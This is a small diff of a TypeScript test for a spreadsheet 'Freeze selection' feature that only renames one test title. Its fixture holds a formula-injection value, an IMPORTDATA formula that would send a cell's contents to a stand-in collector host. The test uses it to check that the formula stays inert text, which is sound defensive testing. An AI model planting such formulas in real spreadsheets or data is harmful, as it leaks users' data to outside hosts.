@@ -106,7 +106,7 @@ describe('Freeze selection', () => {
     expect(sheet.getRange('E8').getValue()).toBe(valueOn(metric, dates[3]!));
   });
 
-  it('keeps a metric name that reads as a formula the text it showed (issue 25): no live IMPORTDATA after Freeze', async () => {
+  it('keeps a metric name that reads as a formula the text it showed: no live IMPORTDATA after Freeze', async () => {
     const name = '=IMPORTDATA("https://collector.example/x?"&A1)';
     await stack.emulator.control.fixtures({ metrics: [{ company_id: DEMO_IDS.fund, name, frequency: 'monthly', unit: 'USD' }] });
     const written: string[] = [];
